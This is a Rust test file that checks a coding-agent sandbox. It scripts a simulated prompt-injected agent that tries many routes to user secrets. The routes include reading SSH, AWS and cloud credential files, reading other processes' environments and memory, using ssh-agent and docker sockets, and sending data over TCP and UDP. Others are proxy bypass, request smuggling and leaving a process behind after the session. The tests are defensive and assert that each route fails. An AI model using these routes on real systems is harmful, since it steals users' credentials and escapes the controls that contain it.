//! Secrets stay home (DESIGN §12, issue "Secrets stay home"): a prompt-injected agent under
//! the default sandbox (worktree on, `network = "hosts"`) tries every route to the user's
//! secrets — files in the home directory and the main checkout, other processes'
//! environments and memory, its own environment, the ssh agent's and a docker-like unix
//! socket, TCP (IPv4, IPv6) and UDP to any address, the proxy to a host not allowed, a
//! smuggled second request, a process left behind — and each test fails if one works. The
//! positive controls prove the agent can still do its work: the allowed host answers, the
//! declared variable is visible, git, python3 and cargo run.

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::support::toml::string;
use crate::support::{LoopToml, Project, Run};

const HALF: &str = r#"{"pass": false, "score": 0.5}"#;
const PY: &str = "/usr/bin/python3";

/// The sandbox tests' probe (Landlock ABI >= 6, required under CI), and the interpreter
/// the hostile agents are written in.
fn landlock() -> bool {
    if !crate::sandbox::landlock() {
        return false;
    }
    assert!(
        Path::new(PY).exists() || std::env::var_os("LOOPFLOW_REQUIRE_SANDBOX").is_none(),
        "no {PY}, and LOOPFLOW_REQUIRE_SANDBOX is set"
    );
    Path::new(PY).exists()
}

/// A worktree loop (the default `create` shape) under `mode = "enforce"` whose implement
/// role runs `body` in the worktree; `sandbox` adds keys to `[sandbox]`.
fn hostile(p: &Project, body: &str, sandbox: &str) {
    hostile_in(p, "enforce", body, sandbox);
}

fn hostile_in(p: &Project, mode: &str, body: &str, sandbox: &str) {
    p.write("verdict.json", &format!("{HALF}\n"));
    let agent = p.script(
        "agent.sh",
        &format!(
            "case \"$1\" in\n  implement) mkdir -p loot\n{body}\n  ;;\n  verify) cat \"{v}\" ;;\n  *) echo ok ;;\nesac\nexit 0",
            v = p.join("verdict.json").display()
        ),
    );
    let toml = LoopToml::new()
        .without("worktree")
        .table(
            "sandbox",
            &format!(
                "mode = \"{mode}\"\nread = [{}]\n{sandbox}",
                string(&p.join("verdict.json").display().to_string())
            ),
        )
        .harness_command(&agent, &["{{role}}"]);
    p.with_loop("l", &toml);
}

/// The fake home a test's loopflow runs with, holding the secrets a laptop has.
fn fake_home(p: &Project) -> PathBuf {
    for (f, text) in [
        (".ssh/id_ed25519", "SECRET-SSH-KEY"),
        (".aws/credentials", "SECRET-AWS"),
        (".config/gh/hosts.yml", "SECRET-GH"),
        (".netrc", "SECRET-NETRC"),
        (".docker/config.json", "SECRET-DOCKER"),
        (".cargo/credentials.toml", "SECRET-CARGO"),
    ] {
        p.write(&format!("home/{f}"), text);
    }
    p.join("home")
}

/// `run` with `HOME` at the fake home (the toolchains keep theirs) and `env` on top.
fn tick(p: &Project, env: &[(&str, &str)]) -> Run {
    let real = std::env::var("HOME").unwrap_or_default();
    let rustup = std::env::var("RUSTUP_HOME").unwrap_or(format!("{real}/.rustup"));
    let cargo = std::env::var("CARGO_HOME").unwrap_or(format!("{real}/.cargo"));
    let home = fake_home(p);
    let mut c = p.lf_cmd(&["run", "--loop", "l", "--json"]);
    c.env("HOME", &home)
        .env("RUSTUP_HOME", rustup)
        .env("CARGO_HOME", cargo)
        .envs(env.iter().copied());
    Run::of(&mut c)
}

fn loot(p: &Project, name: &str) -> String {
    std::fs::read_to_string(p.worktree("l").join("loot").join(name)).unwrap_or_default()
}

#[test]
fn the_agent_reads_no_secret_file_and_no_other_process() {
    if !landlock() {
        return;
    }
    let p = Project::git();
    p.write(".env", "SECRET-DOTENV\n"); // untracked: the worktree does not have it
    let home = p.join("home");
    let mut body = String::new();
    for f in [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gh/hosts.yml",
        ".netrc",
        ".docker/config.json",
        ".cargo/credentials.toml",
    ] {
        body.push_str(&format!(
            "cat \"{}\" >> loot/files 2>/dev/null\n",
            home.join(f).display()
        ));
    }
    body.push_str(&format!(
        r#"cat "{env}" >> loot/files 2>/dev/null
ls -a "$HOME" > loot/home 2>/dev/null
ls -a "{checkout}" > loot/checkout 2>/dev/null
cat /proc/$PPID/environ > loot/ppid-environ 2>/dev/null
cat /proc/$PPID/cmdline > loot/ppid-cmdline 2>/dev/null
cat /proc/1/environ > loot/init-environ 2>/dev/null
{PY} -c 'import sys
pid = int(sys.argv[1])
f = open("/proc/%d/maps" % pid); line = f.readline(); f.close()
lo = int(line.split("-")[0], 16)
m = open("/proc/%d/mem" % pid, "rb"); m.seek(lo); print(len(m.read(64)))' "$PPID" > loot/ppid-mem 2>/dev/null
cat /proc/self/status > /dev/null 2>&1 && echo own-status-read >> loot/notes
echo ok > src-ok; git status --porcelain > loot/git 2>&1 && echo git-ok >> loot/works
{PY} -c 'print("py-ok")' >> loot/works 2>&1
cargo --version > /dev/null 2>&1 && echo cargo-ok >> loot/works
cat /etc/hostname /usr/lib/os-release > /dev/null 2>&1 && echo system-ok >> loot/works"#,
        env = p.join(".env").display(),
        checkout = p.path().display(),
    ));
    hostile(&p, &body, "network = \"deny\"");
    let r = tick(
        &p,
        &[
            ("LOOPFLOW_TEST_SECRET", "x"),
            ("SECRET_IN_ENV", "SECRET-ENV"),
        ],
    );
    assert_eq!(r.json()["outcome"], "tick", "{r:?}");
    let files = loot(&p, "files");
    assert!(!files.contains("SECRET"), "secret files were read: {files}");
    assert_eq!(loot(&p, "home"), "", "the home directory was listed");
    assert_eq!(loot(&p, "checkout"), "", "the main checkout was listed");
    for f in ["ppid-environ", "ppid-cmdline", "init-environ", "ppid-mem"] {
        assert_eq!(loot(&p, f), "", "{f} was read");
    }
    let works = loot(&p, "works");
    for w in ["git-ok", "py-ok", "cargo-ok", "system-ok"] {
        assert!(
            works.contains(w),
            "{w} missing: {works} / {}",
            loot(&p, "git")
        );
    }
}

#[test]
fn the_agent_sees_only_the_variables_it_is_given_in_every_mode() {
    for mode in ["auto", "off"] {
        let p = Project::git();
        let sock = p.join("agent.sock");
        let _listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
        hostile_in(
            &p,
            mode,
            &format!("env > loot/env-{mode}"),
            "env = [\"MY_TOKEN\"]",
        );
        let r = tick(
            &p,
            &[
                ("GITHUB_TOKEN", "SECRET-GH-TOKEN"),
                ("AWS_SECRET_ACCESS_KEY", "SECRET-AWS"),
                ("SSH_AUTH_SOCK", sock.to_str().unwrap()),
                ("MY_TOKEN", "declared-token"),
            ],
        );
        assert_eq!(r.json()["outcome"], "tick", "{mode}: {r:?}");
        let env = loot(&p, &format!("env-{mode}"));
        for secret in [
            "GITHUB_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "SSH_AUTH_SOCK",
            "SECRET",
        ] {
            assert!(!env.contains(secret), "{mode}: {secret} visible:\n{env}");
        }
        assert!(env.contains("MY_TOKEN=declared-token"), "{mode}: {env}");
        assert!(env.contains("LOOPFLOW_LOOP=l"), "{mode}: {env}");
        assert!(env.contains("PATH="), "{mode}: {env}");
    }
}

/// A unix listener at `path` (the ssh agent's, the docker daemon's shape) that counts
/// the connections it accepted.
fn unix_listener(path: &Path) -> std::os::unix::net::UnixListener {
    let _ = std::fs::remove_file(path);
    let l = std::os::unix::net::UnixListener::bind(path).expect("bind unix");
    l.set_nonblocking(true).unwrap();
    l
}

#[test]
fn no_unix_socket_and_no_direct_tcp_or_udp_leaves_the_sandbox() {
    if !landlock() {
        return;
    }
    let p = Project::git();
    let tmp_sock = p.join("ssh-agent.sock");
    let run_sock = PathBuf::from(format!("/run/loopflow-test-{}.sock", std::process::id()));
    let ssh = unix_listener(&tmp_sock);
    let docker = std::fs::metadata("/run")
        .is_ok()
        .then(|| unix_listener(&run_sock));
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp6 = TcpListener::bind("[::1]:0").ok();
    if let Some(l) = &tcp6 {
        l.set_nonblocking(true).unwrap();
    }
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let tport = tcp.local_addr().unwrap().port();
    let uport = udp.local_addr().unwrap().port();
    let t6 = tcp6.as_ref().map_or(0, |l| l.local_addr().unwrap().port());
    let body = format!(
        r#"{PY} - <<'EOF' > loot/net 2>&1
import socket
def tryit(name, f):
    try:
        f(); print(name, "SENT")
    except Exception as e:
        print(name, "refused", type(e).__name__)
def unix(path):
    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.send(b"x")
def tcp(fam, addr):
    s = socket.socket(fam); s.settimeout(2); s.connect(addr); s.send(b"SECRET")
def udp(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"SECRET", addr)
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\x00" * 12, ("127.0.0.53", 53))
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
tryit("ssh-agent", lambda: unix("{tmp_sock}"))
tryit("docker", lambda: unix("{run_sock}"))
tryit("tcp4", lambda: tcp(socket.AF_INET, ("127.0.0.1", {tport})))
tryit("tcp6", lambda: tcp(socket.AF_INET6, ("::1", {t6})))
tryit("udp", lambda: udp(("127.0.0.1", {uport})))
tryit("dns", dns)
tryit("raw", raw)
EOF"#,
        tmp_sock = tmp_sock.display(),
        run_sock = run_sock.display(),
    );
    hostile(&p, &body, "");
    let r = tick(&p, &[("SSH_AUTH_SOCK", tmp_sock.to_str().unwrap())]);
    assert_eq!(r.json()["outcome"], "tick", "{r:?}");
    let net = loot(&p, "net");
    assert!(net.lines().count() >= 7, "the attack did not run: {net}");
    assert!(!net.contains("SENT"), "a route worked:\n{net}");
    assert!(ssh.accept().is_err(), "the ssh agent's socket was reached");
    if let Some(d) = &docker {
        assert!(d.accept().is_err(), "the /run socket was reached");
    }
    let _ = std::fs::remove_file(&run_sock);
    assert!(tcp.accept().is_err(), "TCP reached a host not allowed");
    if let Some(l) = &tcp6 {
        assert!(
            l.accept().is_err(),
            "TCP over IPv6 reached a host not allowed"
        );
    }
    let mut buf = [0u8; 64];
    assert!(udp.recv_from(&mut buf).is_err(), "UDP was sent");
    // The direct connections are the node's refusals, said once each.
    let log = p.events("l");
    let refused = format!("WARN node=implement msg=\"network refused: 127.0.0.1:{tport}\"");
    assert_eq!(log.iter().filter(|l| **l == refused).count(), 1, "{log:#?}");
}

/// A plain HTTP server on 127.0.0.1 answering every request with `body`, counting them.
fn http_server(body: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut s = s;
            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, hits)
}

#[test]
fn only_the_allowed_hosts_answer_through_the_proxy() {
    if !landlock() {
        return;
    }
    let p = Project::git();
    let (ok_port, ok_hits) = http_server("ALLOWED-ANSWER");
    let (evil_port, evil_hits) = http_server("EVIL");
    let body = format!(
        r#"{PY} - <<'EOF' > loot/proxy 2>&1
import os, socket, urllib.request
proxy = os.environ["HTTPS_PROXY"].split("//")[1]
host, port = proxy.rsplit(":", 1)
def raw(data):
    s = socket.create_connection((host, int(port)), 3); s.sendall(data)
    out = b""
    try:
        while True:
            b = s.recv(4096)
            if not b: break
            out += b
    except Exception: pass
    return out.decode(errors="replace").split("\r\n")[0]
print("allowed", urllib.request.urlopen("http://127.0.0.1:{ok_port}/", timeout=5).read().decode())
print("connect-evil", raw(b"CONNECT 127.0.0.1:{evil_port} HTTP/1.1\r\nHost: 127.0.0.1:{evil_port}\r\n\r\n"))
print("get-evil", raw(b"GET http://127.0.0.1:{evil_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{evil_port}\r\n\r\n"))
print("evil-name", raw(b"CONNECT localhost:{ok_port} HTTP/1.1\r\nHost: localhost:{ok_port}\r\n\r\n"))
print("smuggle", raw(b"GET http://127.0.0.1:{ok_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{ok_port}\r\n\r\nGET http://127.0.0.1:{evil_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{evil_port}\r\n\r\n"))
EOF
echo "$HTTPS_PROXY $https_proxy $HTTP_PROXY $ALL_PROXY" > loot/vars
env | grep -i no_proxy >> loot/vars
proxy_port=${{HTTPS_PROXY##*:}}
(env -i {PY} -c 'import time, socket, sys
time.sleep(1.5)
for a in [("127.0.0.1", {ok_port}), ("127.0.0.1", int(sys.argv[1]))]:
    try:
        s = socket.create_connection(a, 2)
        s.sendall(b"GET http://127.0.0.1:{ok_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{ok_port}\r\n\r\n"); s.recv(100)
    except Exception: pass' "$proxy_port" &) >/dev/null 2>&1"#
    );
    hostile(&p, &body, &format!("hosts = [\"127.0.0.1:{ok_port}\"]"));
    let r = tick(&p, &[]);
    assert_eq!(r.json()["outcome"], "tick", "{r:?}");
    let out = loot(&p, "proxy");
    assert!(out.contains("allowed ALLOWED-ANSWER"), "{out}");
    assert!(out.contains("connect-evil HTTP/1.1 403"), "{out}");
    assert!(out.contains("get-evil HTTP/1.1 403"), "{out}");
    // `localhost` is not the `127.0.0.1` the loop allows: hosts match by name.
    assert!(out.contains("evil-name HTTP/1.1 403"), "{out}");
    assert!(out.contains("smuggle HTTP/1.1 200"), "{out}");
    let vars = loot(&p, "vars");
    assert!(vars.starts_with("http://127.0.0.1:"), "{vars}");
    assert!(!vars.to_lowercase().contains("no_proxy"), "{vars}");
    // The leftover tried after the tick, when the proxy was gone.
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(
        ok_hits.load(std::sync::atomic::Ordering::SeqCst),
        2,
        "allowed + smuggle's first"
    );
    assert_eq!(
        evil_hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "{out}"
    );
    let log = p.events("l");
    let refused = format!("WARN node=implement msg=\"network refused: 127.0.0.1:{evil_port}\"");
    assert_eq!(log.iter().filter(|l| **l == refused).count(), 1, "{log:#?}");
    assert!(
        log.iter()
            .any(|l| l
                == &format!("WARN node=implement msg=\"network refused: localhost:{ok_port}\"")),
        "{log:#?}"
    );
    // `review` shows them too.
    let rv = p.lf(&["review", "--loop", "l"]);
    assert!(rv.stdout.contains("network refused"), "{rv:?}");
}
